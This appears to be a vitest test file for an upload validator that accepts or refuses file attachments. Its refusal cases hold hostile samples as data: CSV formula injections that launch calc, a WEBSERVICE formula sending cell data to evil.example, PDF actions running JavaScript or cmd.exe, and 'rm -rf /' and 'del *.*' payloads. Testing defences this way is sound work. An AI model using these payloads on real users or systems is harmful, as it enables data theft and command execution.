import { buffer } from 'node:stream/consumers';
import { PDFDocument, PDFName } from '@cantoo/pdf-lib';
import sharp from 'sharp';
import { describe, expect, it } from 'vitest';
import { ZipFile } from 'yazl';
import type { AppError } from '../errors';
import { makeSigned } from '../pdf-signing/test/documents';
import { checkAttachment } from './content';

/** Returns a ZIP as Office programs write it. */
async function zipOf(parts: Record<string, string>): Promise<Buffer> {
  const zip = new ZipFile();
  for (const [name, content] of Object.entries(parts)) zip.addBuffer(Buffer.from(content), name);
  zip.end();
  return buffer(zip.outputStream);
}

const sheetType = 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml';
const xlsx = (parts: Record<string, string> = {}, type = sheetType) =>
  zipOf({
    '[Content_Types].xml': `<Types><Override PartName="/xl/workbook.xml" ContentType="${type}"/></Types>`,
    '_rels/.rels': '<Relationships/>',
    'xl/workbook.xml': '<workbook/>',
    ...parts,
  });
const ods = (parts: Record<string, string> = {}) =>
  zipOf({
    mimetype: 'application/vnd.oasis.opendocument.spreadsheet',
    'content.xml': '<office:document-content/>',
    ...parts,
  });

/** Returns a PDF of one page after applying a change. */
async function pdfWith(change: (document: PDFDocument) => unknown = () => undefined): Promise<Buffer> {
  const document = await PDFDocument.create();
  document.addPage([200, 200]);
  await change(document);
  return Buffer.from(await document.save());
}
const withAction = (action: Record<string, string>) =>
  pdfWith((document) =>
    document.catalog.set(PDFName.of('OpenAction'), document.context.obj({ Type: 'Action', ...action })),
  );
const packing = (name: string) => pdfWith((document) => document.attach(Buffer.from('MZ'), name));

const ole = (...names: string[]) =>
  Buffer.concat([
    Buffer.from('d0cf11e0a1b11ae1', 'hex'),
    Buffer.alloc(504),
    ...names.map((name) => Buffer.from(`${name}\0`, 'utf16le')),
    Buffer.alloc(64),
  ]);
const pdf = await pdfWith();
const program = Buffer.concat([Buffer.from('MZ'), Buffer.alloc(200)]);
const svg = Buffer.from('<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script/></svg>');
const page = Buffer.from('<!doctype html><script>alert(1)</script>');
const picture = () => sharp({ create: { width: 20, height: 10, channels: 3, background: 'blue' } });
const check = (fileName: string, bytes: Uint8Array) => checkAttachment({ fileName, bytes }, 7);

describe('checkAttachment', async () => {
  // OFF-49
  it.each([
    ['offer.pdf', 'application/pdf', pdf],
    ['OFFER.PDF', 'application/pdf', pdf],
    ['prices.xlsx', 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet', await xlsx()],
    ['prices.ods', 'application/vnd.oasis.opendocument.spreadsheet', await ods()],
    ['drawing.pdf', 'application/pdf', await withAction({ S: 'URI', URI: 'https://example.com' })],
    ['invoice.pdf', 'application/pdf', await packing('factur-x.xml')],
    ['sums.csv', 'text/csv; charset=utf-8', Buffer.from('item,sum\nPipe,=A1*2\nPhone,+91 98765\n')],
    ['prices.xls', 'application/vnd.ms-excel', ole('Root Entry', 'Workbook')],
    ['old.xls', 'application/vnd.ms-excel', ole('Root Entry', 'Book')],
    ['a.csv', 'text/csv; charset=utf-8', Buffer.from('item,price\n"Pipe, steel",₹ 40\nValve,12\n')],
    ['a.csv', 'text/csv; charset=utf-8', Buffer.from('\uFEFFa;b\r\n1;2\r\n')],
    ['one-column.csv', 'text/csv; charset=utf-8', Buffer.from('पाइप\n')],
  ])('an attachment %s is accepted as %s and its bytes stay unchanged', async (name, contentType, bytes) => {
    const checked = await check(name, bytes);
    expect(checked).toMatchObject({ fileName: name, contentType, pixels: null });
    expect(checked.bytes).toBe(bytes);
  });

  // OFF-465
  it('returns the signers of an already signed PDF, and leaves its bytes unchanged', async () => {
    const signed = await makeSigned();
    const checked = await check('offer.pdf', signed);
    expect(checked.signedBy).toEqual(['Test signer']);
    expect(checked.bytes).toBe(signed);
    expect((await check('offer.pdf', pdf)).signedBy).toEqual([]);
  });

  it('images of each allowed format are accepted as attachments', async () => {
    const images: [string, string, Buffer][] = [
      ['a.png', 'image/png', await picture().png().toBuffer()],
      ['a.jpg', 'image/jpeg', await picture().jpeg().toBuffer()],
      ['a.jpeg', 'image/jpeg', await picture().jpeg().toBuffer()],
      ['a.webp', 'image/webp', await picture().webp().toBuffer()],
    ];
    for (const [name, contentType, bytes] of images)
      expect(await check(name, bytes)).toMatchObject({ contentType });
  });

  // OFF-50
  it.each([
    ['a program by its name', 'Pricelist.bat', Buffer.from('del *.*\r\n')],
    ['a program', 'setup.exe', program],
    ['a program named as a table', 'prices.csv', program],
    ['a page by its name', 'page.html', page],
    ['a page named as a PDF', 'evil.pdf', page],
    ['a page named as a table', 'evil.csv', page],
    ['a page behind a byte order mark and spaces', 'evil.csv', Buffer.from('\uFEFF \n<html>')],
    ['an SVG, which can run scripts', 'x.svg', svg],
    ['an SVG named as a table', 'x.csv', svg],
    ['an SVG named as a picture', 'x.png', svg],
    ['a PDF named as a table', 'a.csv', pdf],
    ['a table named as a PDF', 'a.pdf', Buffer.from('a,b\n1,2\n')],
    ['a PDF with an ending of a program', 'offer.pdf.bat', pdf],
    ['a name without an ending', 'offer', pdf],
    ['a zip of anything', 'run.xlsx', await zipOf({ 'run.sh': 'rm -rf /' })],
    ['a text document', 'letter.docx', await xlsx()],
    [
      'a text document named as a workbook',
      'letter.xlsx',
      await xlsx({}, 'application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml'),
    ],
    ['a note', 'note.txt', Buffer.from('Dear all')],
    ['a GIF', 'a.gif', Buffer.from('GIF89a\u0001\u0000\u0001\u0000')],
    ['an empty file', 'a.csv', Buffer.alloc(0)],
    ['control characters', 'a.csv', Buffer.from('a\u0000b')],
    ['an escape sequence', 'a.csv', Buffer.from('\u001B[2J')],
    ['no valid UTF-8', 'a.csv', Buffer.from([0x61, 0xe9, 0x61, 0x0a])],
    ['an older text document named as a workbook', 'a.xls', ole('Root Entry', 'WordDocument')],
    ['an older workbook with macros', 'a.xls', ole('Root Entry', 'Workbook', '_VBA_PROJECT')],
    ['words of a workbook in another file', 'a.xls', Buffer.from('Workbook\0', 'utf16le')],
    [
      'a workbook that says it has macros',
      'a.xlsx',
      await xlsx({}, 'application/vnd.ms-excel.sheet.macroEnabled.main+xml'),
    ],
    ['a workbook with macros', 'a.xlsx', await xlsx({ 'xl/vbaProject.bin': 'x' })],
    ['a workbook with a program', 'a.xlsx', await xlsx({ 'xl/embeddings/run.exe': 'MZ' })],
    ['a workbook cut off', 'a.xlsx', (await xlsx()).subarray(0, 300)],
    ['the list of a workbook alone', 'a.xlsx', await zipOf({ '[Content_Types].xml': sheetType })],
    ['a sheet with macros', 'a.ods', await ods({ 'Basic/Standard/Module1.xml': 'x' })],
    ['a text as OpenDocument', 'a.ods', await ods({ mimetype: 'application/vnd.oasis.opendocument.text' })],
    ['the first bytes of a PDF', 'a.pdf', Buffer.from('%PDF-1.7\n%aaaaaaaaaaaa\n')],
    ['a PDF cut off', 'a.pdf', (await pdfWith()).subarray(0, 200)],
    ['a PDF with a script', 'a.pdf', await withAction({ S: 'JavaScript', JS: 'app.alert(1)' })],
    ['a PDF that starts a program', 'a.pdf', await withAction({ S: 'Launch', F: 'cmd.exe' })],
    ['a PDF that opens what lies elsewhere', 'a.pdf', await withAction({ S: 'GoToR', F: 'x' })],
    ['a PDF with a program', 'a.pdf', await packing('invoice.exe')],
    ['a table that starts a program', 'a.csv', Buffer.from("a,b\n1,=cmd|' /C calc'!A0\n")],
    ['the same in quotes and full width', 'a.csv', Buffer.from(`a\n"＋cmd|' /C calc'!A0"\n`)],
    ['a table that fetches', 'a.csv', Buffer.from('=WEBSERVICE("https://evil.example/?"&A1)\n')],
  ])('refuses an attachment that is %s', async (_what, name, bytes) => {
    const refusal = await check(name, bytes).catch((error: unknown) => error as AppError);
    // API clients read the reason in `detail`, forms at the field.
    expect(refusal).toMatchObject({
      code: 'document_refused',
      fields: [{ field: 'file', text: (refusal as AppError).text }],
    });
  });

  // OFF-49
  it.each([
    ['Scan 1.png', await picture().jpeg().toBuffer(), 'Scan 1.jpg', 'image/jpeg'],
    ['scan.v2.JPEG', await picture().png().toBuffer(), 'scan.v2.png', 'image/png'],
    ['photo.jpg', await picture().webp().toBuffer(), 'photo.webp', 'image/webp'],
    ['letter.png', await pdfWith(), 'letter.pdf', 'application/pdf'],
    ['letter.pdf', await picture().jpeg().toBuffer(), 'letter.jpg', 'image/jpeg'],
    ['photo.jpeg', await picture().jpeg().toBuffer(), 'photo.jpeg', 'image/jpeg'],
  ])(
    'renames an image or a PDF according to its content: %s',
    async (given, bytes, fileName, contentType) => {
      expect(await check(given, bytes)).toMatchObject({ fileName, contentType });
    },
  );

  it.each([
    ['a GIF named .png', 'a.png', await picture().gif().toBuffer()],
    ['a program named .jpg', 'a.jpg', Buffer.from('MZ\u0090\0')],
    ['a picture named .csv', 'a.csv', await picture().png().toBuffer()],
  ])('refuses an attachment whose content does not match its name: %s', async (_what, name, bytes) => {
    await expect(check(name, bytes)).rejects.toMatchObject({
      fields: [{ field: 'file', text: 'The content of this file is not what its name says.' }],
    });
  });

  it('re-encodes an image without its metadata and without data appended to the file', async () => {
    const bytes = await picture()
      .withExif({ IFD0: { Copyright: 'home address' } })
      .jpeg()
      .toBuffer();
    expect(bytes.includes('home address')).toBe(true);
    const behind = Buffer.from('<script>alert(1)</script>');
    const checked = await check('a.jpg', Buffer.concat([bytes, behind]));
    expect(checked.pixels).toEqual({ width: 20, height: 10 });
    const stored = Buffer.from(checked.bytes);
    expect(stored.includes('home address')).toBe(false);
    expect(stored.includes('<script>')).toBe(false);
    expect(await sharp(stored).metadata()).toMatchObject({ format: 'jpeg', width: 20, height: 10 });
  });
});
